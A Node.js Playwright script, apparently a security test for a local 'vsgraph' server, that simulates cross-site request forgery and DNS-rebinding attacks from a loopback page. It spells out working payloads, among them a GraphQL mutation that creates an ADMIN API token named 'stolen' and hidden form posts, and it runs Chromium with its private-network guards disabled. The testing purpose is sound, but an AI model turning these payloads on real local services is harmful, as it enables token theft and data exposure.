// What a page on another site can do to a vsgraph on loopback, in Debian's Chromium
// (tests/browser/test_security_browser.py). Prints one JSON object of what was seen.
//
//   node attack.mjs '{"base": "http://127.0.0.1:8000", "attacker": "http://attacker.test:9000",
//                     "rebind": "http://rebind.test:8000", "ndjson": "..."}'
//
// Both foreign names resolve to 127.0.0.1 (--host-resolver-rules), as an attacker's DNS
// would make them. `attacker` is a real server of the attacker's page on another port
// (a cross-site page); `rebind` is vsgraph's own port under the attacker's name, the
// page itself handed over by the browser's routing, as a DNS-rebinding attack does:
// first the attacker's server answers the name, then 127.0.0.1 does.
import { chromium } from "../../tools/browser/node_modules/playwright-core/index.mjs";

const spec = JSON.parse(process.argv[2]);
const hostOf = (url) => new URL(url).hostname;
const FLAGS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync",
  `--host-resolver-rules=MAP ${hostOf(spec.attacker)} 127.0.0.1, MAP ${hostOf(spec.rebind)} 127.0.0.1`,
  // Chromium's own guard (Local Network Access) would stop the rebound page's requests
  // before they reach vsgraph; other browsers have none, and vsgraph must not rely on it.
  "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults",
];

// Every answer a page's request got from vsgraph, as the network saw it (a no-cors
// answer is opaque to the page's script, not to the browser).
function recorder(page, base) {
  const seen = [];
  page.on("response", (r) => {
    const url = new URL(r.url());
    if (url.port === new URL(base).port) seen.push({ url: r.url(), method: r.request().method(), status: r.status() });
  });
  page.on("requestfailed", (r) => seen.push({ url: r.url(), method: r.method(), failed: r.failure()?.errorText }));
  return seen;
}

async function crossSite(context) {
  // The attacker's page, from the attacker's server, posts what a page may post
  // anywhere without asking: text/plain fetches, a body without a type, HTML forms.
  const page = await context.newPage();
  const seen = recorder(page, spec.base);
  await page.goto(`${spec.attacker}/attack.html`, { waitUntil: "load" });
  const script = await page.evaluate(async ({ base, ndjson }) => {
    const mutation = JSON.stringify({
      query: 'mutation { createApiToken(name: "stolen", role: ADMIN) { secret } }',
    });
    const tries = [
      ["/ingest", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: ndjson }],
      ["/ingest", { method: "POST", mode: "no-cors", body: new Blob([ndjson]) }],
      ["/graphql", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: mutation }],
      // A CORS request: the browser asks first (OPTIONS), and nothing may follow.
      ["/graphql", { method: "POST", headers: { "content-type": "application/json" }, body: mutation }],
    ];
    const out = [];
    for (const [path, init] of tries) {
      try {
        const r = await fetch(base + path, init);
        out.push({ path, type: r.type, status: r.status });
      } catch (e) {
        out.push({ path, error: String(e) });
      }
    }
    return out;
  }, { base: spec.base, ndjson: spec.ndjson });
  // HTML forms, submitted into a frame: text/plain and urlencoded.
  for (const [path, enctype, name, value] of [
    ["/ingest", "text/plain", spec.ndjson.slice(0, -1), "}"],
    ["/graphql", "application/x-www-form-urlencoded", "query", "{ workItems(first: 5) { totalCount } }"],
  ]) {
    await page.evaluate(({ action, enctype, name, value }) => {
      const form = document.createElement("form");
      form.method = "POST"; form.action = action; form.enctype = enctype; form.target = "sink";
      const input = document.createElement("input");
      input.type = "hidden"; input.name = name; input.value = value;
      form.append(input); document.body.append(form); form.submit();
    }, { action: spec.base + path, enctype, name, value });
    await page.waitForTimeout(500);
  }
  await page.waitForTimeout(500);
  await page.close();
  return { script, seen };
}

async function rebinding(context, origin) {
  // A page under `origin`, on vsgraph's port: its requests are same-origin to it.
  const page = await context.newPage();
  const seen = recorder(page, spec.base);
  await page.route(`${origin}/rebind.html`, (route) =>
    route.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><title>rebind</title><p>hi</p>" }));
  await page.goto(`${origin}/rebind.html`, { waitUntil: "load" });
  const script = await page.evaluate(async () => {
    const read = "{ workItems(first: 3) { edges { node { key } } } }";
    const mutation = 'mutation { createApiToken(name: "stolen", role: ADMIN) { secret } }';
    const tries = [
      ["/graphql?query=" + encodeURIComponent(read), { method: "GET" }],
      ["/graphql", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: mutation }) }],
      ["/export/dora.json?product=x", { method: "GET" }],
      ["/explorer", { method: "GET" }],
    ];
    const out = [];
    for (const [path, init] of tries) {
      try {
        const r = await fetch(path, init);
        out.push({ path, status: r.status, body: (await r.text()).slice(0, 400) });
      } catch (e) {
        out.push({ path, error: String(e) });
      }
    }
    return out;
  });
  await page.close();
  return { script, seen };
}

const browser = await chromium.launch({
  executablePath: process.env.VSG_CHROMIUM || "/usr/bin/chromium",
  args: FLAGS,
});
try {
  const context = await browser.newContext();
  const found = {
    crossSite: await crossSite(context),
    rebind: await rebinding(context, spec.rebind),
    // The same page under vsgraph's own name: what the rebinding would have got.
    control: await rebinding(context, spec.base),
  };
  process.stdout.write(JSON.stringify(found));
} catch (err) {
  process.stdout.write(JSON.stringify({ error: String(err && err.stack || err) }));
  process.exitCode = 1;
} finally {
  await browser.close();
}
